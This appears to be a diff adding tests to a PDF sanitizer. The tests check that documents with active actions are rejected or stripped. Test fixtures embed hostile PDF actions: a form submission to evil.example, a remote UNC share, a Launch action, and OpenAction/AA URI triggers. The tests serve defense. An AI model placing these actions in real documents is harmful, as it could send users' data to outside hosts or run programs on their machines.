@@ -226,6 +226,29 @@ def test_a_program_that_is_packed_away_is_found() -> None:
     assert code_of(program) == "active-document"
 
 
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"/S /SubmitForm /F (https://evil.example)",
+        b"/S /GoToR /F (\\\\evil\\share)",
+        b"/S /GoToE /F (other.pdf)",
+        b"/S /ImportData /F (data.fdf)",
+        b"/S /Launch /F (program)",
+    ],
+)
+def test_a_document_that_sends_something_or_opens_another_is_not_taken(action: bytes) -> None:
+    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << " + action + b" >> >>] /Type"
+    assert code_of(PDF.replace(b"/Type", link, 2)) == "active-document"
+
+
+@pytest.mark.parametrize("name", [b"OpenAction", b"AA"])
+def test_what_a_document_does_when_it_is_opened_is_taken_out(name: bytes) -> None:
+    action = b"/" + name + b" << /S /URI /URI (https://evil.example) >> /Type"
+    kept = taken(PDF.replace(b"/Type", action, 1)).data
+    assert b"evil.example" not in kept
+    assert b"/" + name not in kept
+
+
 def test_a_locked_document_is_not_taken() -> None:
     writer = PdfWriter(clone_from=io.BytesIO(PDF))
     writer.encrypt("secret")
